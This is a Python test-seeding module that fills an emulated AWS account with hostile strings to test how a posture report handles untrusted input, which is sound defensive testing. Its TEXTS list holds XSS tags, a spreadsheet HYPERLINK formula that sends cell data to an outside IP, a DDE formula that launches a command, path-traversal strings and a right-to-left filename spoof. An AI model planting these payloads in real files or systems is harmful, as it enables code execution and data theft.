"""Hostile text wherever AWS lets its user write: markup, formulas, escapes, path tricks, direction marks, length.

IAM's names take only `A-Za-z0-9+=,.@_-` and paths any printable ASCII, so names hold what formulas and paths need,
and everything else stands in descriptions, tags, policy documents and API Gateway's free text. Some of it goes
further than AWS admits today, straight into moto's objects: a report must not rest on AWS's checks of input.
https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_iam-quotas.html
"""

from seeds.alerting import AlertBuilder
from seeds.apis import ApiBuilder, TrailBuilder, domain
from seeds.builder import Builder, ago, allow, document, trust
from seeds.networks import ANY, EVERYTHING, Network, profile, rule
from seeds.edge import PoolBuilder, certificate, geo, acl_rule, web_acl
from seeds.compute import FunctionBuilder, SecretBuilder, queue
from seeds.databases import file_system, instance, table
from seeds.fronts import distribution, load_balancer
from seeds.posture import OrganizationBuilder, analyzer, audit_manager, contact, inspector, macie
from seeds.rest import RestBuilder, api_key, client_certificate, usage_plan
from seeds.storage import BucketBuilder, KeyBuilder, expiry, recorder

TEXTS = (
    '<script>alert("evidence")</script>',
    '"><img src=x onerror=alert(1)>',
    "</td></tr></table><h1>pass</h1>",
    "{{ 7 * 7 }}{% raw %}",
    "[click](javascript:alert(1))",
    "| pass | pass |\n| --- | --- |",
    "`code` **bold** <!-- hidden",
    '=HYPERLINK("http://203.0.113.7/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\u001b[31mred\u001b[0m\u001b]0;title\u0007",
    "..\\..\\windows\\system32",
    "../../../etc/passwd",
    "CON",
    "evil\u202egnp.exe",
    "zero\u200bwidth\u2066isolate",
    "line one\r\nline two",
    "nul\u0000byte",
    "\u0001\u001f\u007f\u0085",
    "\u2028separator\u2029",
    "\U0001f4a3" * 20,
    "e\u0301" * 200,
    "x" * 900,
)
# What IAM's names and XML can carry.
NAMES = ("=HYPERLINK@A1", "+1+1", "-2+3", "@SUM", "..", "con", "a" * 64, "user,with,commas", "=cmd.exe", "root", "_root_account_", "0001", "1e5", "true", "null")


def seed(main: Builder, second: Builder, options: dict) -> dict:
    main.root(mfa="virtual", password_last_used=ago(3))
    main.auditor()
    identities(main)
    TrailBuilder(main, "us-east-1", "a.-_" + "9" * 124, S3KeyPrefix="../../<b>|`", IsMultiRegionTrail=True, tags={"=1+1": '<script>alert("t")</script>'})
    alerting(main)
    storage(main)
    data(main)
    apis(main)
    rest_apis(main)
    networks(main)
    edge(main)
    functions(main)
    queues_and_secrets(main)
    watchers(main)
    return {"strings": list(TEXTS) + list(NAMES)}


def identities(b: Builder) -> None:
    b.group("=group@A1", inline={"=inline": document(allow("s3:GetObject", 'arn:aws:s3:::<script>alert("g")</script>'))})
    for number, name in enumerate(NAMES):
        tags = {f"tag{n}": safe(text) for n, text in enumerate(TEXTS[number::5])}
        b.user(name, password=10 if number % 2 else None, keys=((100, None, True),) if number % 3 == 0 else (), path=path_of(number), tags={})
        b.backend.tagger.tag_resource(b.backend.users[name].arn, [{"Key": k, "Value": v[:256]} for k, v in tags.items()])
    for number, text in enumerate(TEXTS):
        role = b.role(f"role{number:02d}+=,.@-_", trust({"AWS": "*"}, Condition={"StringEquals": {"sts:ExternalId": text}}))
        role.description = safe(text)
        b.policy(f"policy{number:02d}=@", allow("s3:GetObject", "arn:aws:s3:::" + text, Sid="s"), description=safe(text)[:1000])


def alerting(b: Builder) -> None:
    """Names of alarms, metrics and filters, and what a pattern says."""
    TrailBuilder(b, "us-east-1", "to-logs", IsMultiRegionTrail=True, CloudWatchLogsLogGroupArn=f"arn:aws:logs:us-east-1:{b.id}:log-group:trail:*")
    alerts = AlertBuilder(b, "us-east-1")
    topic = alerts.topic("hostile", TEXTS[0] + "@example.com")
    kept = alerts_backend(b).filters
    for number, text in enumerate(TEXTS[:12]):
        text = safe(text)[:200]
        alerts.alarm(text, topic, metric=f"hostile{number}", AlarmDescription=text)
        kept.add_filter(text, f"{{ $.eventName = \"{text}\" }}", "trail", [{"metricName": f"hostile{number}", "metricNamespace": "Trail", "metricValue": "1"}])


def alerts_backend(b: Builder):
    from moto.logs.models import logs_backends

    return logs_backends[b.id]["us-east-1"]


def storage(b: Builder) -> None:
    """Names of buckets are tame; what stands in tags, policies, rules, prefixes, aliases and descriptions is not."""
    for number, text in enumerate(TEXTS[:10]):
        text = safe(text)
        bucket = BucketBuilder(b, ("us-east-1", "eu-west-1", "eu-central-1")[number % 3], f"example-hostile-{number}-{b.id}")
        bucket.policy(allow("s3:GetObject", f"{bucket.arn}/*", Principal="*", Sid=text)).tags(**{text[:100].strip(): text[:256]})
        bucket.kept.set_lifecycle([{**expiry(text[:200], f"{text}/", 30), "Expiration": {"Days": 30}}])
        bucket.logs_to(bucket, f"{text}/")
        key = KeyBuilder(b, "eu-west-1", text, Description=text, statements=(allow("kms:Decrypt", Principal={"AWS": "*"}, Sid=text),))
        key.kept.description = TEXTS[-number - 1]
    recorder(b, "us-east-1", TEXTS[0], name=TEXTS[1], status="FAILURE", error=TEXTS[7], allSupported=True)


def data(b: Builder) -> None:
    """Tags, comments, prefixes and names: what is not tame of databases, tables, file systems and front ends."""
    from moto.rds.models import rds_backends

    for number, text in enumerate(TEXTS[:12]):
        text, region = safe(text), ("us-east-1", "eu-west-1", "eu-central-1")[number % 3]
        instance(b, region, f"hostile-{number}", tags={text[:100].strip() or "t": text[:256]}, PubliclyAccessible=True)
        rds_backends[b.id][region].databases[f"hostile-{number}"].engine_version = text
        file_system(b, region, text[:256], **{text[:100].strip() or "t": text[:256]})
        load_balancer(b, region, f"hostile-{number}", "application", (80, "HTTP"), logs="example-logs", prefix=text)
        distribution(b, f"h{number}.example.com", "origin.example.com", logs="example-logs", prefix=text[:200], comment=text[:128])
    for name in ("..-", "CON", "-2-3", "1e5", "null"):
        table(b, "eu-west-1", name)


def path_of(number: int) -> str:
    return ("/", "/../../", "/<b>/", "/%2e%2e/", "/a|b`c/", '/"=1+1"/')[number % 6]


def safe(text: str) -> str:
    """Without what an XML document cannot hold; AWS refuses it there too."""
    return "".join(c for c in text if c in "\t\n\r" or ord(c) >= 0x20)


def apis(b: Builder) -> None:
    for number, text in enumerate(TEXTS):
        region = ("us-east-1", "eu-west-1", "eu-central-1")[number % 3]
        api = ApiBuilder(b, region, text[:128], "HTTP" if number % 2 else "WEBSOCKET", Description=text[:1024], Tags={"tag": text[:256], text[:128].strip() or "t": "1"})
        authorizer = api.request(text[:128])
        target = api.integration(IntegrationType="HTTP_PROXY", IntegrationMethod="GET", IntegrationUri="http://203.0.113.7/" + text[:500],
                                 Description=text[:1024], PayloadFormatVersion="1.0", RequestParameters={"overwrite:header.x": text[:500]} if number % 2 else {})  # fmt: skip
        api.route(("GET /" if number % 2 else "") + text[:120], "CUSTOM", target, AuthorizerId=authorizer, OperationName=text[:64])
        api.stage("stage" + str(number), logs=text, Description=text[:1024], StageVariables={"name": text[:500], "v" + str(number): text[:512]}, Tags={"t": text[:256]})
        if number in (0, 14, 16):
            domain(b, region, f"xn--{number}.example.com", api, f"stage{number}", key=text[:50])


def rest_apis(b: Builder) -> None:
    """Paths keep to what moto lets through; everything else is text."""
    for number, text in enumerate(TEXTS[::3]):
        region = ("us-east-1", "eu-west-1", "eu-central-1")[number % 3]
        policy = document({"Effect": "Allow", "Principal": "*", "Action": "execute-api:Invoke", "Resource": "execute-api:/*", "Sid": text, "Condition": {"StringEquals": {text: text}}})
        api = RestBuilder(b, region, text[:128], description=text[:1024], tags={"tag": text[:256], text[:128].strip() or "t": "1"}, policy=policy)
        token = api.authorizer(text[:128], source=text[:256])
        api.kept.authorizers[token].identity_validation_expression = text
        api.method("GET", f"/r{number}", "CUSTOM", "http://203.0.113.7/x", authorizerId=token, requestParameters={"integration.request.header.x": text[:500]}, operationName=text[:64])
        api.kept.resources[api.resource(f"/r{number}")].resource_methods["GET"].method_integration.uri = text
        api.kept.resources[api.resource(f"/r{number}")].path_part = f"r{number}{{{text[:60]}}}"
        api.stage(f"stage{number}", logs=text, description=text[:1024], variables={"name": text[:500], "v" + str(number): text[:512]}, tags={"t": text[:256]})
        key = api_key(b, region, text[:1024], 10, description=text[:1024])
        usage_plan(b, region, text[:256], ((api, f"stage{number}"),), (key,))
        client_certificate(b, region, 10, text[:1024])


def networks(b: Builder) -> None:
    """Names and descriptions of groups, tags, and the ends of flow logs and policies."""
    network = Network(b, "eu-west-1")
    profile(b, "=profile@A1", "=web@A1")
    vpc = network.vpc("hostile", "10.1.0.0/16").logged()
    vpc.subnet("10.1.0.0/24")
    for number, text in enumerate(TEXTS):
        made = vpc.group(f"group{number}", EVERYTHING, rule(22, ANY))
        kept = network.kept.groups[vpc.id][made]
        kept.name = kept.group_name = safe(text)[:255]
        kept.description = safe(text)[:255]
        network.kept.tags[made]["Name"] = safe(text)[:255]
    server = vpc.instance("hostile", made, tokens="optional", profile="=profile@A1")
    network.kept.tags[server]["Name"] = network.kept.tags[vpc.id]["Name"] = safe(TEXTS[0])
    network.kept.tags[vpc.id]["$gap"] = safe(TEXTS[5])
    next(iter(network.kept.flow_logs.values())).log_destination = safe(TEXTS[7])
    vpc.endpoint("execute-api", {"Statement": [allow("*", Principal="*", Sid=safe(TEXTS[1]), Condition={"StringEquals": {safe(TEXTS[3]): safe(TEXTS[4])}})]})


def edge(b: Builder) -> None:
    """Names of rules, pools and clients, and descriptions, go straight into moto; domains of certificates too."""
    for number, text in enumerate(TEXTS[::3]):
        region = ("us-east-1", "eu-west-1", "eu-central-1")[number % 3]
        arn = web_acl(b, region, f"acl-{number}", rules=(acl_rule("r", 0, geo("XX")), acl_rule("s", 1, geo("YY"), "Count")))
        from moto.wafv2.models import wafv2_backends

        kept = wafv2_backends[b.id][region].wacls[arn]
        kept.description, kept.rules[0].name = text, text
        pool = PoolBuilder(b, region, f"pool-{number}")
        pool.kept.name = text
        client = pool.client(f"client-{number}", CallbackURLs=["http://app.example.com/" + text[:200]])
        pool.kept.clients[client].extended_config["ClientName"] = text
        certificate(b, region, f"c{number}.example.com", arn=f"arn:aws:acm:{region}:{b.id}:certificate/{number:08d}-0000-4000-c000-000000000000")


def functions(b: Builder) -> None:
    """Names of functions are tame; variables, statements, descriptions, origins and what moto lets through for a runtime are not."""
    for number, text in enumerate(TEXTS):
        region = ("us-east-1", "eu-west-1", "eu-central-1")[number % 3]
        made = FunctionBuilder(b, region, f"hostile-{number}", text[:60] if number % 4 == 0 else "python3.13",
                               variables={text[:100]: "blue", f"{text[:60]}_PASSWORD": "Emulated-not-real-3141"}, key=f"arn:aws:kms:{region}:{b.id}:alias/{text[:50]}")  # fmt: skip
        made.kept.role = f"arn:aws:iam::{b.id}:role/{text[:60]}"
        made.allow({"Sid": text, "Principal": "*"}).from_api(text[:20], sid=text[:50]).url("NONE", alias=f"a{number}", Cors={"AllowOrigins": [text]})


def queues_and_secrets(b: Builder) -> None:
    """Names are tame; statements, descriptions, schedules, owners and tags are not."""
    for number, text in enumerate(TEXTS):
        region = ("us-east-1", "eu-west-1", "eu-central-1")[number % 3]
        queue(b, region, f"hostile-{number}", {"Sid": text, "Principal": "*"})
        made = SecretBuilder(b, region, f"hostile/+=.@-_{number}", description=text[:2000], statements=({"Sid": text, "Principal": {"AWS": text}},), service=text[:40])
        made.rotates(None if number % 2 else 30, schedule=text[:60])
        made.kept.tags = [{"Key": text[:100], "Value": text[:200]}]


def watchers(b: Builder) -> None:
    """Titles, jobs, units and policies, whose names are anybody's."""
    contact(b, Name=TEXTS[0], Title=TEXTS[7], EmailAddress=TEXTS[1], PhoneNumber=TEXTS[8])
    analyzer(b, "us-east-1", findings=tuple((text, "AWS::S3::Bucket", "ACTIVE") for text in TEXTS[:12]))
    inspector(b, "us-east-1", findings=tuple((text, "HIGH", 3, text) for text in TEXTS[:12]))
    macie(b, "us-east-1", jobs=TEXTS)
    audit_manager(b, "us-east-1", *TEXTS)
    made = OrganizationBuilder(b)
    for number, text in enumerate(TEXTS):
        made.account(f"{600000000000 + number}", text, made.unit(text)).policy(text, on=(None,))
